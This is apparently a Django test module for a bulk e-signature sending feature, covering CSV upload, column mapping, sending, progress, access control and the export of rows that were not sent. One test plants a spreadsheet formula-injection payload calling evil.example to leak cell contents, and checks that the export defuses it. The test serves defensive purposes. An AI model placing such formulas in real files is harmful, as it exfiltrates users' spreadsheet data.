"""The bulk send pages through the HTTP client: upload, mapping and preview, send, progress,
rows not sent as CSV, and every bad input answered on the page (never a 500, nothing half
written)."""

import csv
import io

from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from bulk.models import Batch, BulkRow
from documents.models import Document
from signing.models import Envelope
from tests.bulk.conftest import csv_bytes, make_batch, recipients


def _upload(client: Client, document: Document, data: bytes, name: str = "r.csv"):
    return client.post(
        reverse("bulk:batch_new"),
        {"source": f"d:{document.pk}", "file": SimpleUploadedFile(name, data, "text/csv")},
    )


def _options(**extra: str) -> dict[str, str]:
    return {
        "language": "fr",
        "deadline_days": "30",
        "reminder_every_days": "3",
        "reminder_max": "3",
        "note": "",
        **extra,
    }


def test_upload_map_send_and_follow_the_progress(
    sender_client: Client, model_document: Document, django_capture_on_commit_callbacks
) -> None:
    response = _upload(sender_client, model_document, csv_bytes(recipients(3, bad_phone_line=3)))
    assert response.status_code == 302
    batch = Batch.objects.get()
    page = sender_client.get(response["Location"]).content.decode()
    # The preview shows the first rows checked, the bad one with the send screen's reason.
    assert 'data-line="2"' in page and "client1@example.com" in page
    assert "give a mobile number" in page
    assert 'data-pending="2" data-invalid="1"' in page
    # Ignore the phone column: line 3 chose SMS, so it now lacks a number.
    response = sender_client.post(
        reverse("bulk:batch_detail", args=[batch.pk]),
        _options(**{"col-0": "client.name", "col-1": "client.email", "col-3": "client.channel"}),
    )
    assert response.status_code == 302
    assert batch.rows.get(line=3).error.endswith(
        "A mobile number is needed to send the link by SMS."
    )
    with django_capture_on_commit_callbacks(execute=True):
        response = sender_client.post(reverse("bulk:batch_send", args=[batch.pk]))
    assert response.status_code == 302
    progress = sender_client.get(reverse("bulk:batch_progress", args=[batch.pk])).content.decode()
    assert 'data-status="done" data-sent="2" data-failed="0" data-invalid="1"' in progress
    assert "hx-get" not in progress  # finished: no more polling
    assert Envelope.objects.filter(bulk_row__batch=batch).count() == 2
    # Sending again changes nothing.
    with django_capture_on_commit_callbacks(execute=True):
        sender_client.post(reverse("bulk:batch_send", args=[batch.pk]))
    assert Envelope.objects.filter(bulk_row__batch=batch).count() == 2


def test_a_thousand_row_file_is_accepted_and_queued_with_the_bad_phone_reported(
    sender_client: Client, model_document: Document, django_capture_on_commit_callbacks
) -> None:
    """The issue's acceptance file: accepted, checked and queued by the request; the rows are
    sent by the workers (bench/bench_bulk.py sends all 1 000 through real workers)."""
    response = _upload(
        sender_client, model_document, csv_bytes(recipients(1000, bad_phone_line=777))
    )
    assert response.status_code == 302
    batch = Batch.objects.get()
    assert batch.rows.count() == 1000
    bad = batch.rows.get(status=BulkRow.Status.INVALID)
    assert bad.line == 777 and "mobile" in bad.error
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = sender_client.post(reverse("bulk:batch_send", args=[batch.pk]))
    assert response.status_code == 302
    batch.refresh_from_db()
    assert batch.status == Batch.Status.SENDING
    assert batch.rows.filter(status=BulkRow.Status.PENDING).count() == 999
    assert len(callbacks) == 1  # the runners, queued once the request's transaction commits
    page = sender_client.get(reverse("bulk:batch_detail", args=[batch.pk])).content.decode()
    assert 'hx-get="/bulk/' in page and "0 of 999 envelopes processed" in page


def test_rows_not_sent_download_as_csv_with_formulas_defused(
    sender_client: Client, sender: User, model_document: Document
) -> None:
    rows = [
        ["name", "email"],
        ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "not-an-email"],
        ["Paul Martin", "paul@example.com"],
    ]
    batch = make_batch(sender, csv_bytes(rows), document=model_document)
    response = sender_client.get(reverse("bulk:batch_failed_csv", args=[batch.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert lines[0] == ["name", "email", "Line", "Reason"]
    assert len(lines) == 2
    assert lines[1][0].startswith("'=HYPERLINK")  # a spreadsheet shows it as text
    assert lines[1][2] == "2"
    assert "valid email" in lines[1][3]


def test_an_empty_file_is_refused_on_the_page(
    sender_client: Client, model_document: Document
) -> None:
    response = _upload(sender_client, model_document, b"")
    assert response.status_code == 400
    assert "The submitted file is empty." in response.content.decode() or (
        "The file is empty." in response.content.decode()
    )
    assert not Batch.objects.exists()


def test_a_file_of_another_type_is_refused(sender_client: Client, model_document: Document) -> None:
    response = _upload(sender_client, model_document, b"%PDF-1.7\n...", name="r.pdf")
    assert response.status_code == 400
    assert "Upload a CSV or XLSX file." in response.content.decode()
    assert not Batch.objects.exists()


def test_ten_thousand_and_one_rows_are_refused(
    sender_client: Client, model_document: Document
) -> None:
    rows = [["name", "email"]] + [[f"n{i}", f"n{i}@example.com"] for i in range(10_001)]
    response = _upload(sender_client, model_document, csv_bytes(rows))
    assert response.status_code == 400
    assert "more than 10000 recipients" in response.content.decode()
    assert not Batch.objects.exists() and not BulkRow.objects.exists()


def test_a_missing_required_column_blocks_the_send(
    sender_client: Client, model_document: Document, django_capture_on_commit_callbacks
) -> None:
    response = _upload(sender_client, model_document, csv_bytes([["Société", "Ville"], ["A", "B"]]))
    assert response.status_code == 302
    batch = Batch.objects.get()
    page = sender_client.get(response["Location"]).content.decode()
    assert "Choose the column that holds the signer&#x27;s name." in page
    with django_capture_on_commit_callbacks(execute=True):
        response = sender_client.post(reverse("bulk:batch_send", args=[batch.pk]), follow=True)
    assert "Choose the column that holds the signer&#x27;s name." in response.content.decode()
    batch.refresh_from_db()
    assert batch.status == Batch.Status.DRAFT
    assert not Envelope.objects.exists()


def test_a_column_cannot_be_mapped_to_something_the_batch_does_not_offer(
    sender_client: Client, sender: User, model_document: Document
) -> None:
    batch = make_batch(sender, csv_bytes(recipients(1)), document=model_document)
    response = sender_client.post(
        reverse("bulk:batch_detail", args=[batch.pk]),
        _options(**{"col-0": "var:deal.title", "col-1": "client.email"}),
    )
    assert response.status_code == 400
    assert "Select a valid choice." in response.content.decode()
    batch.refresh_from_db()
    assert batch.mapping["0"] == "client.name"  # unchanged


def test_someone_elses_batch_looks_missing_and_a_manager_sees_it(
    client: Client, sender: User, colleague: User, manager: User, model_document: Document
) -> None:
    batch = make_batch(sender, csv_bytes(recipients(1)), document=model_document)
    client.force_login(colleague)
    assert client.get(reverse("bulk:batch_detail", args=[batch.pk])).status_code == 404
    assert batch.title not in client.get(reverse("bulk:batch_list")).content.decode()
    client.force_login(manager)
    assert client.get(reverse("bulk:batch_detail", args=[batch.pk])).status_code == 200
    assert batch.title in client.get(reverse("bulk:batch_list")).content.decode()


def test_a_batch_is_a_filter_of_the_board_and_the_list(
    sender_client: Client,
    sender: User,
    model_document: Document,
    django_capture_on_commit_callbacks,
) -> None:
    from bulk import services

    batch = make_batch(sender, csv_bytes(recipients(2)), document=model_document)
    other = make_batch(sender, csv_bytes(recipients(1)), document=model_document)
    for item in (batch, other):
        with django_capture_on_commit_callbacks(execute=True):
            services.batch_send(batch=item, actor=sender)
    inside = Envelope.objects.filter(bulk_row__batch=batch)
    outside = Envelope.objects.get(bulk_row__batch=other)
    page = sender_client.get(reverse("signing:envelope_list"), {"batch": batch.pk}).content.decode()
    for envelope in inside:
        assert envelope.public_id in page
    assert outside.public_id not in page
    assert f'<option value="{batch.pk}" selected>' in page
    board = sender_client.get(reverse("signing:board"), {"batch": other.pk}).content.decode()
    assert outside.public_id in board
    assert all(e.public_id not in board for e in inside)
    # Not a number, or past the integer range: ignored, as every board filter.
    assert sender_client.get(reverse("signing:board"), {"batch": "x"}).status_code == 200
    assert sender_client.get(reverse("signing:board"), {"batch": "9" * 30}).status_code == 200
